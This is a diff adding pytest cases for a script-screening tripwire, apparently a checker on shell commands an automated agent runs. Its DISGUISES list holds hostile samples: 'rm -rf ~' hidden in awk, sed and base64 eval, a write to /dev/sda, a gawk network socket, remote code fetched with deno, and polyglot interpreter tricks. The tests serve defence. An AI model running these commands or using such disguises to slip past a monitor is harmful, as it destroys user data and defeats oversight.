@@ -83,3 +83,105 @@ def test_text_too_long_or_unbalanced_is_still_read_or_refused() -> None:
     for broken in ("python3 -c 'x", "$(python3 -c x", "echo `node -e x"):
         got = unreadable_line(broken)
         assert got is not None and "inline" in got, broken
+
+
+# -- disguises (issue 50): code the tripwire does not read, spelled as shell it does ---------
+
+DISGUISES = [
+    # awk running a command
+    ("#!/bin/sh\nawk 'BEGIN{system(\"rm -rf ~\")}'\n", "system()"),
+    ('#!/bin/sh\nawk \'BEGIN { print "rm -rf ~" | "sh" }\'\n', "piping"),
+    ("#!/bin/sh\nawk 'BEGIN { \"id\" | getline x; print x }'\n", "piping"),
+    ("#!/bin/sh\ngawk 'BEGIN { print |& \"/inet/tcp/0/x/80\" }'\n", "piping"),
+    ("#!/bin/sh\ngawk '@load \"filefuncs\"; BEGIN {}'\n", "@ directive"),
+    ('#!/bin/sh\ngawk \'BEGIN { f = "system"; @f("id") }\'\n', "@ directive"),
+    ("#!/bin/sh\nawk -F: 'BEGIN { system(\"id\") }' /etc/passwd\n", "system()"),
+    ("#!/bin/sh\nawk -v x=1 -- 'BEGIN { system(\"id\") }'\n", "system()"),
+    ("#!/bin/sh\nmawk -W exec prog.awk\n", "-W exec"),
+    ("#!/bin/sh\ngawk -l ./x.so 'BEGIN {}'\n", "native extension"),
+    ("#!/bin/sh\ngawk --load=x 'BEGIN {}'\n", "native extension"),
+    ('#!/bin/sh\nawk -f "$0"\n', "named at run time"),
+    ("#!/bin/sh\nawk -f /dev/stdin <<'E'\nBEGIN { system(\"id\") }\nE\n", "named at run time"),
+    ('#!/bin/sh\nawk \'BEGIN { print "x" > "/dev/sda" }\'\n', "/dev/sda"),
+    ("#!/bin/sh\nbusybox awk 'BEGIN{system(\"id\")}'\n", "system()"),
+    ("#!/bin/sh\nfind . -exec awk 'BEGIN{system(\"id\")}' {} \\;\n", "system()"),
+    ("#!/bin/sh\nx=$(awk 'BEGIN{system(\"id\")}')\n", "system()"),
+    ("#!/bin/sh\nawk 'BEGIN { print \"unended }'\n", "cannot end"),
+    # sed running a command
+    ("#!/bin/sh\nsed 's/.*/rm -rf ~/e' f\n", "s///e"),
+    ("#!/bin/sh\nsed '1e rm -rf ~' f\n", "(e)"),
+    ("#!/bin/sh\nsed -n -e 's|x|id|ep' f\n", "s///e"),
+    ("#!/bin/sh\nsed --expression='/x/e id' f\n", "(e)"),
+    ('#!/bin/sh\nsed -f "$0" f\n', "named at run time"),
+    # a polyglot: the sensor's own text read by another language
+    ('#!/bin/sh\nexec perl -x "$0" "$@"\n#!perl\nsystem("id");\n__END__\n', "polyglot"),
+    ('#!/bin/sh\nexec perl -x -S "$0"\n#!perl\n', "polyglot"),
+    ('#!/bin/sh\nruby -x "$0"\n#!ruby\n', "polyglot"),
+    ('#!/bin/sh\npython3 -x "$0"\n', "polyglot"),
+    ('#!/bin/sh\nperl "$0"\n', "named at run time"),
+    ("#!/bin/sh\n''''exec python3 -u -- \"$0\" ${1+\"$@\"} # '''\nimport os\n", "run time"),
+    ('#!/bin/sh\nnode "${BASH_SOURCE[0]}"\n', "named at run time"),
+    ("#!/bin/sh\nperl -M'strict; system q(id)' -le 1\n", "inline perl"),
+    # here-documents, descriptors and substitutions fed to an interpreter
+    ("#!/bin/sh\npython3 -W ignore <<E\nimport os\nE\n", "from stdin"),
+    ("#!/bin/sh\npython3 /dev/fd/3 3<<E\nimport os\nE\n", "from stdin"),
+    ("#!/bin/sh\npython3 /proc/self/fd/0 <<E\nimport os\nE\n", "from stdin"),
+    ("#!/bin/sh\npython3 <(echo 'import os')\n", "from stdin"),
+    ("#!/bin/sh\ntclsh <<E\nexec id\nE\n", "from stdin"),
+    ("#!/bin/sh\nlua -i < cmds\n", "inline lua"),
+    ("#!/bin/sh\nls | xargs python3\n", "from stdin"),
+    ("#!/bin/sh\ndeno run https://example.com/x.ts\n", "deno"),
+    # languages it does not read at all
+    ("#!/bin/sh\nexpect -c 'spawn id'\n", "expect"),
+    ("#!/bin/sh\nvim -es -c '!id' -c q\n", "vim"),
+    ("#!/bin/sh\ngdb -batch -ex 'shell id'\n", "gdb"),
+    ("#!/bin/sh\necho '!id' | dc\n", "dc"),
+    ("#!/bin/sh\nnpx some-package\n", "npx"),
+    ("#!/bin/sh\nzsh <<E\nprint -r -- *(e:'id':)\nE\n", "zsh"),
+    # shell built at run time, and env -S filling in its own variables
+    ("#!/bin/sh\nx=rm; $x -rf ~\n", "named at run time"),
+    ('#!/bin/sh\n"$@"\n', "named at run time"),
+    ("#!/bin/sh\n`echo rm` -rf ~\n", "named at run time"),
+    ('#!/bin/sh\neval "$(echo cm0gLXJmIH4K | base64 -d)"\n', "eval"),
+    ('#!/bin/sh\neval "$CMD"\n', "eval"),
+    ("#!/bin/sh\n. <(echo id)\n", "built at run time"),
+    ("#!/bin/sh\nsource /dev/stdin <<< 'id'\n", "built at run time"),
+    ("#!/bin/sh\nenv -S 'sh -c ${CMD}'\n", "env -S"),
+    ("#!/bin/sh\nenv -S 'sh -c \"python3 -c x\"'\n", "inline python3"),
+]
+
+
+@pytest.mark.parametrize(("script", "why"), DISGUISES)
+def test_code_in_disguise_is_not_readable(script: str, why: str) -> None:
+    got = unreadable_script(script)
+    assert got is not None and why in got and "\n" not in got, (script, got)
+    line = script.split("\n", 1)[1]
+    assert unreadable_line(line) is not None, line  # as a verify or a run_shell line too
+
+
+STILL_READ = [
+    "#!/bin/sh\nawk '{print $1}' f\n",
+    "#!/bin/sh\nawk -F, '/a|b/ {n++} END {print n / 2}' f\n",
+    "#!/bin/sh\nawk '$3 > 5 || $2 ~ /x[/]y/ { print $0 > \"/dev/stderr\" }' f\n",
+    "#!/bin/sh\nawk -v n=3 'NR > n { s += $2 } END { printf \"%d\\n\", s }' f\n",
+    "#!/bin/sh\ndf -P | awk 'NR==2 {print $5}' | tr -d %\n",
+    "#!/bin/sh\nawk '# system( in a comment\n{ print \"system(\" }' f\n",
+    "#!/bin/sh\nawk -f check.awk f\n",  # a program on disk, as python3 check.py
+    "#!/bin/sh\nsed -n 's/a/b/gp' f\n",
+    "#!/bin/sh\nsed -e :a -e '$!N;s/\\n//;ta' f\n",
+    "#!/bin/sh\nsed -E -e 's/x/y/' -e '/^#/d' f\n",
+    "#!/bin/sh\nsed '/start/,/end/{/x/d}' f\n",
+    "#!/bin/sh\nsed 's/x/y/w out.txt' f\n",
+    "#!/bin/sh\nsed --sandbox 's/x/y/e' f\n",  # GNU sed refuses e under --sandbox
+    "#!/bin/sh\nsed '1a\\\nhello e' f\n",
+    "#!/bin/sh\npython3 --version\n",
+    "#!/bin/sh\nperl -Mstrict check.pl\n",
+    "#!/bin/sh\nnode --require ./x.js check.js\n",
+    '#!/bin/sh\nn=$(ls | wc -l); echo "{\\"n\\": $n}"\n',
+    '#!/bin/sh\nfor f in reports/*; do echo "$f"; done\n',
+]
+
+
+@pytest.mark.parametrize("script", STILL_READ)
+def test_ordinary_awk_sed_and_scripts_on_disk_stay_readable(script: str) -> None:
+    assert unreadable_script(script) is None, script
